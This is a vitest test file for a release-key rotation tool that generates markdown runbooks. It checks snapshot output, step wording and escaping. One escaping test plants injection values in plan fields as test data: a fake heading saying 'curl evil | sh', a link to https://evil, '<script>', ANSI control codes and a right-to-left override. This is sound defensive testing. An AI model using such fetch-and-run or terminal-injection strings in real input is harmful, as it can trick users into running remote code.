/** docs/rotation-runbook.md shows what longhand rotate writes; `vitest -u` writes it anew. */

import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { Plan, PlanKey } from '../../src/plan/plan.ts'
import { escapeText } from '../../src/cli/escape.ts'
import { runbookMark, runbookOf } from '../../src/rotation/runbook.ts'
import { finishRotation, startRotation, switchKeys } from '../../src/rotation/steps.ts'
import { breakGlass } from '../../src/rotation/break-glass.ts'
import type { KeyFacts } from '../../src/rotation/situation.ts'
import { projectRoot } from '../gates/files.ts'
import { first, planKey, second, third } from '../support/plan/plans.ts'
import { endorsedBy, planOf, situation, sound } from '../support/plan/rotation.ts'

const by = { planPath: 'longhand.json', escape: escapeText }

const base: Plan = {
  ...planOf(planKey(first)),
  product: 'acme-cli',
  wkd: { domain: 'acme.example', address: 'release@acme.example', tree: 'public' },
  authority: { certificate: 'keys/authority.asc', fingerprint: third },
}
const { state: _state, dates: _dates, ...candidate }: PlanKey = planKey(second)
const facts: Readonly<Record<string, KeyFacts>> = {
  [second]: { ...sound, endorsements: [first, third].flatMap((by) => endorsedBy(by).endorsements) },
}
const at = (plan: Plan, days: number, more = facts): ReturnType<typeof situation> =>
  situation(plan, { days, facts: more })

const started = startRotation(at(base, 0), { candidate }).plan
const switched = switchKeys(at(started, 1)).plan
const finished = finishRotation(at(switched, 90), { leaveBehind: true }).plan
const glass = { candidate, authority: third, reason: 'compromised' } as const
const broken = breakGlass(at(base, 10), glass).plan
const revoked: Readonly<Record<string, KeyFacts>> = {
  ...facts,
  [first]: { ...sound, revoked: 'soft' },
}

const pages = [
  ['After `longhand rotate start`', at(started, 0)],
  ['After `longhand rotate switch`', at(switched, 1)],
  ['After `longhand rotate finish`', at(finished, 90, revoked)],
  ['After `longhand rotate start --break-glass --reason compromised`', at(broken, 10)],
] as const

function page(): string {
  const shown = pages.map(([title, situation]) => {
    const text = runbookOf(situation, by).replace(`${runbookMark}\n\n`, '')
    return `## ${title}\n\n${text.replaceAll(/^#(?=#* )/gm, '###')}`
  })
  return [
    '# What the runbook says',
    '',
    'Each step of `longhand rotate` writes `longhand-rotation.md` beside the plan: where the rotation stands, what',
    'comes next and when. These are the runbooks of one rotation, and of one where the old key was stolen, as the tool',
    'writes them; [plan.md](plan.md) says how the commands go.',
    '',
    ...shown,
  ].join('\n')
}

test('docs/rotation-runbook.md is what the tool writes', async () => {
  await expect(page()).toMatchFileSnapshot(join(projectRoot, 'docs/rotation-runbook.md'))
})

describe('a runbook', () => {
  test('begins with its mark, and is the same for the same situation', () => {
    for (const [, situation] of pages) {
      const text = runbookOf(situation, by)
      expect(text.startsWith(`${runbookMark}\n`)).toBe(true)
      expect(runbookOf(situation, by)).toBe(text)
    }
  })

  test('says first what was cut short', () => {
    const text = runbookOf(at(finished, 90), by)
    expect(text).toContain(
      `1. ${first} is retired, and not yet revoked: run \`longhand rotate finish\` again.`,
    )
  })

  test('says whom the next step would leave behind, and what helps', () => {
    const text = runbookOf(at(started, 2, { [second]: sound }), by)
    expect(text).toContain(`First help clients that embed only ${first}`)
  })

  test('paths are code, whatever is in them', () => {
    const odd = { ...base, keys: [{ ...planKey(first), certificate: 'a|`b`.asc' }] }
    const text = runbookOf(at(odd, 0), by)
    expect(text).toContain('`` a\\|`b`.asc ``')
  })

  test('what others wrote is escaped, and is text and nothing else', () => {
    const wkd = { domain: 'acme.example', address: 'a`<b>`@acme.example', tree: 'p`\u202Eub' }
    const certificate = 'a```\n\n# Run `curl evil | sh`\u009B31m.asc'
    const signer = 'awskms:///alias/`` [x](https://evil)'
    const odd: Plan = { ...base, wkd, keys: [{ ...planKey(first), certificate, signer }] }
    const objection = { code: 'usage', reason: 'it says <script>, `x` and\u001B[2J' } as const
    const tree = { complete: false, held: new Set<string>() }
    const texts = [
      runbookOf({ ...at(odd, 0), authority: objection }, { ...by, planPath: '`\n# x' }),
      runbookOf({ ...at({ ...started, wkd }, 2), tree }, by),
    ]
    for (const text of texts) {
      expect(text).not.toMatch(/[\0-\x09\x0B-\x1F\x7F-\x9F\u202E]/)
      expect(text.match(/^#+ .*$/gm)).toEqual([
        '# The release key of acme-cli',
        ...['Where it stands', 'What comes next', 'Who accepts a release'].map((h) => `## ${h}`),
        '## If something goes wrong',
      ])
    }
    expect(texts[0]).toContain('```` a```\\x0A\\x0A# Run `curl evil \\| sh`\\u{009B}31m.asc ````')
    expect(texts[0]).toContain('endorses nothing: it says \\<script\\>, \\`x\\` and\\\\x1B\\[2J.')
    expect(texts[1]).toContain('clients that look up a\\`\\<b\\>\\`@acme.example')
  })

  test('of an empty plan says how to begin', () => {
    expect(runbookOf(at({ longhand: 1, keys: [] }, 0), by)).toContain('Bring the first key in')
  })
})
